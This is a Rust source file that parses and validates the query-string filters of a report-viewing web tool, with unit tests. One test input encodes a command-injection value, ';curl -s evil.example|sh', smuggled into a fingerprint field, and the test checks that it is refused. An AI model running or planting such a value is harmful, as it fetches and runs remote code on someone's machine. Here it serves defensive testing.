//! What a view shows, as kept in its URL's query: read once by [`Filters::from_query`] into
//! typed values (every value checked), used by the views and the pages, and written back into
//! links by [`Filters::link`].

use std::fmt;

use super::html::href;
use super::page::MAX_PAGE;
use crate::report::{Classification, InvalidSite, ReportType, Timestamp, parse_site};
use crate::store::GroupSummary;

/// The views' time windows.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Window {
    /// The last 24 hours.
    Day,
    /// The last 7 days.
    Week,
    /// The last 30 days.
    Month,
}

impl Window {
    /// Every window, shortest first.
    pub const ALL: [Window; 3] = [Self::Day, Self::Week, Self::Month];

    /// As written in the URL and given to `--since`.
    pub fn as_str(self) -> &'static str {
        match self {
            Self::Day => "24h",
            Self::Week => "7d",
            Self::Month => "30d",
        }
    }

    fn parse(s: &str) -> Option<Self> {
        Self::ALL.into_iter().find(|w| w.as_str() == s)
    }

    /// The oldest time the window holds, from `now`.
    pub fn since(self, now: Timestamp) -> Timestamp {
        let days = match self {
            Self::Day => 1,
            Self::Week => 7,
            Self::Month => 30,
        };
        now.minus_millis(days * 86_400_000)
    }
}

/// A problem's fingerprint as `lookout top` prints it: 16 lowercase hex digits, so that it is
/// safe in a link and a command line as it is.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Fingerprint(String);

impl Fingerprint {
    /// `s`, if it is 16 lowercase hex digits.
    pub fn parse(s: &str) -> Option<Self> {
        let hex = s.len() == 16 && s.bytes().all(|b| matches!(b, b'0'..=b'9' | b'a'..=b'f'));
        hex.then(|| Self(s.to_owned()))
    }

    /// The 16 digits.
    pub fn as_str(&self) -> &str {
        &self.0
    }
}

impl fmt::Display for Fingerprint {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(&self.0)
    }
}

/// What a view shows, as kept in its URL's query.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Filters {
    /// The site, checked and lowercased (empty: none named, the front page).
    pub site: String,
    /// The time window.
    pub window: Window,
    /// Only this report type (`None`: every type).
    pub report_type: Option<ReportType>,
    /// Only this CSP classification (`None`: any).
    pub class: Option<Classification>,
    /// Only problems a browser of this family sent (`Chrome`; empty: any).
    pub browser: String,
    /// Only problems with reports of this disposition (`enforce`, `report`; empty: any). Text,
    /// as the aggregates list them: a value they never hold shows no problem, not an error.
    pub disposition: String,
    /// One problem: its type is `report_type`.
    pub fingerprint: Option<Fingerprint>,
    /// The page of the problems, or of an opened problem's reports, from 0 (at most
    /// [`MAX_PAGE`]).
    pub page: usize,
}

/// A view's query string that cannot be read.
#[derive(Debug, thiserror::Error)]
pub enum FilterError {
    /// `window` is not one of the windows offered.
    #[error("window is one of 24h, 7d, 30d")]
    Window,
    /// `page` is not a number from 0 to [`MAX_PAGE`].
    #[error("page is a number from 0 to {MAX_PAGE}")]
    Page,
    /// `fingerprint` is not 16 lowercase hex digits.
    #[error("fingerprint is 16 lowercase hex digits, as lookout top prints it")]
    Fingerprint,
    /// `site` is not a host name.
    #[error(transparent)]
    Site(#[from] InvalidSite),
    /// `type` is not a report type's name.
    #[error("invalid report type {0:?}")]
    Type(String),
    /// `class` is not a classification's name.
    #[error("class is one of {}", class_names())]
    Class,
}

/// `violation, allowed-by-policy, indeterminate`.
fn class_names() -> String {
    Classification::ALL.map(Classification::as_str).join(", ")
}

impl Filters {
    /// Reads a view's query string; `site` when the query names none. The window, the
    /// fingerprint and the page are checked as they come, then the site, the type and the
    /// class: the first wrong value is the one refused.
    pub fn from_query(query: &str, site: &str) -> Result<Self, FilterError> {
        let mut f = Filters {
            site: String::new(),
            window: Window::Week,
            report_type: None,
            class: None,
            browser: String::new(),
            disposition: String::new(),
            fingerprint: None,
            page: 0,
        };
        let (mut site, mut report_type, mut class) =
            (site.to_owned(), String::new(), String::new());
        for (k, v) in form_urlencoded::parse(query.as_bytes()) {
            let v = v.trim().to_owned();
            match &*k {
                "site" => site = v,
                "window" if !v.is_empty() => {
                    f.window = Window::parse(&v).ok_or(FilterError::Window)?;
                }
                "type" => report_type = v,
                "class" => class = v,
                "browser" => f.browser = v,
                "disposition" => f.disposition = v,
                "fingerprint" if v.is_empty() => f.fingerprint = None,
                "fingerprint" => {
                    f.fingerprint = Some(Fingerprint::parse(&v).ok_or(FilterError::Fingerprint)?);
                }
                "page" if !v.is_empty() => {
                    f.page = v
                        .parse::<usize>()
                        .ok()
                        .filter(|&p| p <= MAX_PAGE)
                        .ok_or(FilterError::Page)?;
                }
                _ => {}
            }
        }
        if !site.is_empty() {
            f.site = parse_site(&site)?;
        }
        if !report_type.is_empty() {
            let named = ReportType::from_name(&report_type);
            f.report_type = Some(named.ok_or(FilterError::Type(report_type))?);
        }
        if !class.is_empty() {
            f.class = Some(Classification::from_name(&class).ok_or(FilterError::Class)?);
        }
        Ok(f)
    }

    /// The type's name as links, the form and command lines write it; empty: every type.
    pub fn type_name(&self) -> &str {
        self.report_type.as_ref().map_or("", ReportType::as_str)
    }

    /// The classification's name; empty: any.
    pub fn class_name(&self) -> &str {
        self.class.map_or("", Classification::as_str)
    }

    /// The problem these filters open, when they name one: its type and fingerprint.
    pub fn opened(&self) -> Option<(&ReportType, &Fingerprint)> {
        Some((self.report_type.as_ref()?, self.fingerprint.as_ref()?))
    }

    /// The query pairs of this view (empty values are left out of links).
    pub fn pairs(&self) -> Vec<(&'static str, String)> {
        vec![
            ("site", self.site.clone()),
            ("window", self.window.as_str().to_owned()),
            ("type", self.type_name().to_owned()),
            ("class", self.class_name().to_owned()),
            ("browser", self.browser.clone()),
            ("disposition", self.disposition.clone()),
        ]
    }

    /// A link to the view at `path` with these filters, `extra` pairs replacing theirs.
    pub fn link(&self, path: &str, extra: &[(&'static str, String)]) -> String {
        let mut pairs = self.pairs();
        for (k, v) in extra {
            pairs.retain(|(name, _)| name != k);
            pairs.push((k, v.clone()));
        }
        let borrowed: Vec<(&str, &str)> = pairs.iter().map(|(k, v)| (*k, v.as_str())).collect();
        href(path, &borrowed)
    }

    /// Whether a problem passes the browser and disposition filters (which `top` has not).
    pub fn keeps(&self, g: &GroupSummary) -> bool {
        (self.browser.is_empty() || g.browsers.iter().any(|b| family(b) == self.browser))
            && (self.disposition.is_empty() || g.dispositions.contains(&self.disposition))
    }
}

/// `Chrome 120` → `Chrome`.
pub fn family(browser: &str) -> &str {
    browser.rsplit_once(' ').map_or(browser, |(name, _)| name)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::store::days_between;

    #[test]
    fn filters_round_trip_through_links() {
        let f = Filters::from_query(
            "site=a.example&window=30d&type=csp-violation&class=violation&browser=Chrome",
            "",
        )
        .unwrap();
        assert_eq!(f.window, Window::Month);
        assert_eq!(f.report_type, Some(ReportType::CspViolation));
        assert_eq!(f.class, Some(Classification::Violation));
        let link = f.link("/", &[]).replace("&amp;", "&");
        let back = Filters::from_query(link.trim_start_matches("/?"), "").unwrap();
        assert_eq!(back, f);
        assert!(Filters::from_query("window=1y", "").is_err());
    }

    #[test]
    fn the_days_of_a_window_end_today() {
        let now = Timestamp::parse_rfc3339("2026-12-03T10:00:00Z").unwrap();
        let days = days_between(Window::Week.since(now), now);
        assert_eq!(days.len(), 8);
        assert_eq!(days[0], "2026-11-26");
        assert_eq!(days[7], "2026-12-03");
        assert_eq!(days_between(Window::Day.since(now), now).len(), 2);
    }

    #[test]
    fn fingerprints_and_pages_are_checked() {
        let f = Filters::from_query("fingerprint=0123456789abcdef&page=400", "").unwrap();
        assert_eq!(
            (f.fingerprint.as_ref().map(Fingerprint::as_str), f.page),
            (Some("0123456789abcdef"), 400)
        );
        for bad in [
            "0123456789ABCDEF",
            "0123456789abcde",
            "0123456789abcdef0",
            "0123456789abcdef%3Bcurl%20-s%20evil.example%7Csh",
        ] {
            let read = Filters::from_query(&format!("fingerprint={bad}"), "");
            assert!(matches!(read, Err(FilterError::Fingerprint)), "{bad}");
        }
        for bad in ["401", "100000000000", "18446744073709551616", "-1", "x"] {
            let read = Filters::from_query(&format!("page={bad}"), "");
            assert!(matches!(read, Err(FilterError::Page)), "{bad}");
        }
    }

    #[test]
    fn the_site_the_type_and_the_class_are_checked_once_read() {
        let f = Filters::from_query("type=&class=&fingerprint=", "Example.COM").unwrap();
        assert_eq!(f.site, "example.com", "the default site, checked too");
        assert_eq!((f.report_type, f.class, f.fingerprint), (None, None, None));
        let refused = |q: &str| Filters::from_query(q, "").unwrap_err().to_string();
        assert_eq!(refused("type=a%20b"), r#"invalid report type "a b""#);
        assert_eq!(
            refused("class=blocked"),
            "class is one of violation, allowed-by-policy, indeterminate"
        );
        assert!(matches!(
            Filters::from_query("site=a%20b", ""),
            Err(FilterError::Site(_))
        ));
        assert_eq!(
            refused("class=blocked&type=a%20b&site=-&window=1y"),
            "window is one of 24h, 7d, 30d",
            "the window first, as it always was"
        );
    }
}
